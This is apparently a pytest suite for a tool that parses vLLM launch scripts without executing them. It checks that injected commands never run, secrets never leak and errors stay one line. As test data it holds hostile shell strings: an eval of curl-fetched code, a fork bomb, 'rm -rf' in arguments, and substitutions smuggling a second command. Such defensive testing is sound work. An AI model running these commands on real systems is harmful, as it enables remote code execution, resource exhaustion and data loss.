"""Hostile inputs: nothing runs (no process is started, planted files stay as they were), one-line
errors with documented exit codes, bounded time, no secret written."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

SECRET = "hf_PlantedSecretValue0123456789ab"


def _cli(tmp_path: Path, text: str | bytes, name: str = "input.sh") -> subprocess.CompletedProcess:
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return subprocess.run([sys.executable, "-m", "sparktriage", "reproduce", str(path), "--out",
                           str(tmp_path / "out"), "--no-capture"], capture_output=True, text=True,
                          timeout=60, cwd=tmp_path)


def _no_process(*_args, **_kw):
    raise AssertionError("reproduce tried to start a process")


def _main(tmp_path: Path, text: str | bytes, capsys, monkeypatch=None, name: str = "input.sh"):
    """The CLI in this process (same code path and exit status, no interpreter start); with
    `monkeypatch`, every way of starting a process fails the test."""
    from sparktriage.cli.app import main
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    if monkeypatch is not None:
        for target, attr in ((subprocess, "Popen"), (os, "system"), (os, "execv"),
                             (os, "execve"), (os, "execvp"), (os, "posix_spawn"), (os, "fork")):
            monkeypatch.setattr(target, attr, _no_process)
    with pytest.raises(SystemExit) as exit_info:
        main(["reproduce", str(path), "--out", str(tmp_path / "out"), "--no-capture"])
    captured = capsys.readouterr()
    return subprocess.CompletedProcess([], exit_info.value.code, captured.out, captured.err)


def _one_line_error(done: subprocess.CompletedProcess) -> str:
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert done.returncode == 2, done.stderr
    assert len(lines) == 1 and lines[0].startswith("error: "), done.stderr
    assert "Traceback" not in done.stderr
    return lines[0]


# read as bash, never run: the server command is found, the rest ignored or a placeholder
PARSED = {
    "substitution": "vllm serve /m --master-addr $(touch {marker})",
    "backticks": "vllm serve /m --served-model-name `touch {marker}`",
    "semicolon": "vllm serve /m; touch {marker}",
    "and": "vllm serve /m && touch {marker}",
    "pipe": "vllm serve /m | touch {marker}",
    "substitution-in-quotes": 'HF_TOKEN={secret} vllm serve /m --chat-template "$(touch {marker})"',
    "eval-curl": 'eval "$(curl -s http://203.0.113.9/x.sh)"\ntouch {marker}\nvllm serve /m\n',
    "trap-exit": "trap 'touch {marker}' EXIT\nvllm serve /m\n",
    "source": "source {marker}.sh\n. {marker}.sh\nvllm serve /m\n",
    "process-substitution": "vllm serve /m --chat-template <(touch {marker})\n",
    "function-called": "f() {{ touch {marker}; }}\nf\nvllm serve /m\n",
    "docker-substitution": "docker run img vllm serve /m --port $(touch {marker})",
}
# the server's own argv cannot be read: one line naming the construct and its line
REFUSED = {
    "newline-in-quotes": ("vllm serve /m --served-model-name 'a\ntouch {marker}'",
                          ":1: a quoted value of the server command contains a newline"),
    "unbalanced": ("vllm serve /m --served-model-name 'oops",
                   ":1: unbalanced ' quote: the server command of line 1 cannot be read"),
}


@pytest.mark.parametrize("case", sorted(PARSED))
def test_parsed_never_run(case: str, tmp_path: Path, capsys, monkeypatch) -> None:
    marker = tmp_path / "planted"
    done = _main(tmp_path, PARSED[case].format(marker=marker, secret=SECRET), capsys,
                 monkeypatch)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    assert SECRET not in done.stderr + done.stdout
    doc = (tmp_path / "out" / "deployment.yaml").read_text()
    assert "path: /m" in doc and SECRET not in doc


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_refused_names_the_construct(case: str, tmp_path: Path, capsys, monkeypatch) -> None:
    marker = tmp_path / "planted"
    text, expected = REFUSED[case]
    done = _main(tmp_path, text.format(marker=marker), capsys, monkeypatch)
    assert expected in _one_line_error(done)
    assert not marker.exists()


def test_compose_command_is_not_run(tmp_path: Path, capsys) -> None:
    marker = tmp_path / "planted"
    text = f"services:\n  v:\n    image: img\n    command: vllm serve /m; touch {marker}\n"
    done = _main(tmp_path, text, capsys, name="compose.yaml")
    assert done.returncode in (0, 2) and "Traceback" not in done.stderr
    assert not marker.exists()


def test_rm_in_an_argument_leaves_the_canary(tmp_path: Path, capsys, monkeypatch) -> None:
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("still here\n")
    text = (f"MODEL=/m\nrm -rf {canary}\nvllm serve $MODEL --served-model-name "
            f"\"$(rm -rf {canary})\" --port 8000\n")
    done = _main(tmp_path, text, capsys, monkeypatch)
    assert done.returncode == 0, done.stderr
    assert (canary / "keep.txt").read_text() == "still here\n"
    import json
    result = json.loads((tmp_path / "out" / "reproduce.json").read_text())
    assert result["deployment"]["model"]["name"] == "<supply:output_of_rm>"
    assert "output_of_rm" in result["placeholders"]
    assert any(u["text"] == f"rm -rf {canary}" and u["note"].startswith("line 2: ignored")
               for u in result["unknown"])


def test_fork_bomb_is_parsed_in_bounded_time(tmp_path: Path, capsys, monkeypatch) -> None:
    start = time.monotonic()
    done = _main(tmp_path, ":(){ :|:& };:\nvllm serve /m\n", capsys, monkeypatch)
    assert time.monotonic() - start < 10
    assert done.returncode == 0, done.stderr
    assert "function : called recursively; not followed" in done.stderr


def test_deep_nesting_and_huge_heredoc_are_bounded(tmp_path: Path, capsys, monkeypatch) -> None:
    deep = "$(echo " * 3000 + "x" + ")" * 3000
    start = time.monotonic()
    done = _main(tmp_path, f"A={deep}\nvllm serve /m --served-model-name \"$A\"\n", capsys,
                 monkeypatch)
    assert done.returncode in (0, 2) and "Traceback" not in done.stderr
    if done.returncode == 2:
        _one_line_error(done)
    expansions = "vllm serve /m --served-model-name " + "${A:-\"" * 2000 + "x" + "\"}" * 2000
    done = _main(tmp_path, expansions + "\n", capsys, monkeypatch)
    assert done.returncode == 0, done.stderr
    chain = "[ 1 = 1 ] && " * 3000 + "vllm serve /m\n"
    done = _main(tmp_path, chain, capsys, monkeypatch)
    assert done.returncode == 0, done.stderr
    nested = "if true; then\n" * 400 + "vllm serve /m\n" + "fi\n" * 400
    done = _main(tmp_path, nested, capsys, monkeypatch)
    assert done.returncode in (0, 2) and "Traceback" not in done.stderr
    body = "x" * 100 + "\n"
    heredoc = "cat <<'EOF' > /tmp/never\n" + body * 30_000 + "EOF\nvllm serve /m\n"
    done = _main(tmp_path, heredoc, capsys, monkeypatch)
    assert done.returncode == 0, done.stderr
    assert not Path("/tmp/never").exists() or Path("/tmp/never").stat().st_size != 3_030_000
    assert time.monotonic() - start < 30


def test_nul_and_huge(tmp_path: Path, capsys) -> None:
    done = _main(tmp_path, b"vllm serve /m\x00 --port 1", capsys)
    assert done.returncode == 2 and "NUL" in done.stderr and len(done.stderr.splitlines()) == 1
    done = _main(tmp_path, "vllm serve /m --served-model-name " + "x" * (10 * 1024 * 1024), capsys)
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1
    assert "larger than" in done.stderr


def test_secrets_in_no_written_byte(tmp_path: Path) -> None:
    other = "sk-proj-AnotherPlantedKey12345678"
    text = (f"export HF_TOKEN={SECRET}\nexport HF_HUB_URL=https://user:{other}@hub.example\n"
            f"vllm serve /m --api-key {other} --hf-overrides '{{\"token\": \"{SECRET}\"}}' "
            f"--served-model-name {SECRET}\n")
    done = _cli(tmp_path, text)
    assert done.returncode == 0, done.stderr
    for path in (tmp_path / "out").iterdir():
        blob = path.read_text()
        assert SECRET not in blob and other not in blob, path
    assert SECRET not in done.stderr and other not in done.stderr
    assert "supply on the lab" in done.stderr


def test_unknown_kind(tmp_path: Path, capsys) -> None:
    done = _main(tmp_path, "hello world\nthis is not a config\n", capsys, name="x.txt")
    assert done.returncode == 2 and "cannot tell what kind" in done.stderr


def test_pipe_to_tee_is_a_note(tmp_path: Path, capsys) -> None:
    done = _main(tmp_path, "vllm serve /m --port 8001 2>&1 | tee log.txt &\n", capsys)
    assert done.returncode == 0, done.stderr
    assert "piped to tee" in done.stderr
    assert not (tmp_path / "log.txt").exists()


def test_a_secret_inside_a_substitution_is_not_written(tmp_path: Path) -> None:
    text = (f"TOKEN=$(echo {SECRET} | base64 -d)\n"
            "vllm serve /m --served-model-name \"$TOKEN\"\n")
    done = _cli(tmp_path, text)
    assert done.returncode == 0, done.stderr
    for path in (tmp_path / "out").iterdir():
        assert SECRET not in path.read_text(), path
    assert SECRET not in done.stderr + done.stdout


def test_a_refusal_does_not_print_a_secret(tmp_path: Path, capsys) -> None:
    done = _main(tmp_path, f"vllm serve /m --served-model-name '{SECRET}\n", capsys)
    line = _one_line_error(done)
    assert "unbalanced ' quote" in line and SECRET not in line
